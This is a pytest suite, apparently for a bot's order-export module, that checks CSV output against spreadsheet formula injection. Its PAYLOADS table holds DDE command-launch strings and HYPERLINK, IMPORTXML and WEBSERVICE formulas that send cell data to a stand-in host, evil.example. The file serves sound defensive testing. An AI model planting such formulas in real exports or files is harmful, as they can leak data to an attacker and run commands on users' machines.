"""Orders as lines of a CSV file: RFC 4180, and nothing in it that a spreadsheet would run."""

import csv
import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest

from bot.chat.cells import COLUMNS, cell, head, lines_of
from bot.orders import Record, State
from bot.panel import OrderState
from tests.store.things import NOW

pytestmark = pytest.mark.quick

PAYLOADS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "feed": '=IMPORTXML("https://evil.example","//a")',
    "service": '=WEBSERVICE("https://evil.example/"&B2)',
    "call": '=DDE("cmd";"/C calc";"x")',
    "plus": "+1+1",
    "plus command": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "minus command": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a name": "@durov",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "both": "\t\r=1+1",
    "not shown": "\u200b=1+1",
    "turned round": "\u202e=1+1",
    "a mark": "\ufeff=1+1",
    "quotes": '="a""b",\r\n=1+1',
    "blank": "  =1+1",
}
"""What panels and people might have a spreadsheet run."""
RUN = tuple("=+-@\t\r")


def record(**given):
    usual = {
        "ref": 70001, "made": NOW, "name": "Ann", "service": "101", "service_name": "Followers",
        "link": "https://example.com/p", "quantity": 1000, "state": State.PLACED, "status": OrderState.COMPLETED,
        "raw_status": "Completed", "panel_id": "2350112", "price": Decimal("0.900"), "charge": Decimal("0.89999"),
        "currency": "USD", "settled": NOW + timedelta(hours=1),
    }  # fmt: skip
    return Record(**usual | given)


def read(data):
    """As a program reads it that goes by RFC 4180."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_twenty_payloads():
    assert len(PAYLOADS) == 20


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@pytest.mark.parametrize("field", ["name", "service_name", "link", "service", "panel_id", "currency"])
def test_no_cell_of_anybodys_is_run(field, payload):
    rows = read(head() + lines_of([record(**{field: payload})]))
    assert [len(row) for row in rows] == [len(COLUMNS)] * 2
    assert not any(one.startswith(RUN) for one in rows[1])


@pytest.mark.parametrize("raw", PAYLOADS.values(), ids=PAYLOADS)
def test_nor_a_status_that_only_the_panel_knows(raw):
    rows = read(lines_of([record(status=OrderState.UNKNOWN, raw_status=raw)]))
    assert not rows[0][list(COLUMNS).index("panel_status")].startswith(RUN)


def test_a_line_says_everything_and_numbers_are_numbers():
    made = datetime(2026, 3, 1, 23, 30, tzinfo=timezone(timedelta(hours=5)))
    line = lines_of([record(name='Ann, the "first"', made=made, charge=Decimal("-0.5"), price=Decimal("1E+3"))])
    assert line == (
        b'24BH,2026-03-01T18:30:00Z,"Ann, the ""first""",101,Followers,https://example.com/p,1000,placed,completed,'
        b"2350112,1000.00,-0.50,USD,2026-03-01T13:30:15Z\r\n"
    )


def test_what_is_not_known_is_empty():
    nothing = {"name": None, "link": None, "quantity": None, "panel_id": None, "charge": None, "settled": None}
    (row,) = read(lines_of([record(status=None, raw_status="", state=State.QUEUED, **nothing)]))
    given = dict(zip(COLUMNS, row, strict=True))
    assert [name for name, value in given.items() if not value] == [
        "person", "link", "quantity", "panel_status", "panel_id", "charge", "settled_utc",
    ]  # fmt: skip


def test_the_file_begins_with_its_mark_and_every_line_ends_as_it_should():
    data = head() + lines_of([record(link="a\nb"), record(service_name="в\u2028г 🎉")])
    assert data.startswith(b"\xef\xbb\xbfreference,made_utc,person,")
    assert data.endswith(b"\r\n")
    assert data.replace(b"\r\n", b"").count(b"\n") == 1
    assert len(read(data)) == 3


@pytest.mark.parametrize(
    ("value", "written"),
    [("-5", "'-5"), (-5, "-5"), (Decimal("-5.10"), "-5.10"), ("", ""), ("a=b", "a=b"), ("'=1", "'=1"), ("=", "'=")],
    ids=repr,
)
def test_texts_are_marked_and_figures_are_not(value, written):
    assert cell(value) == written
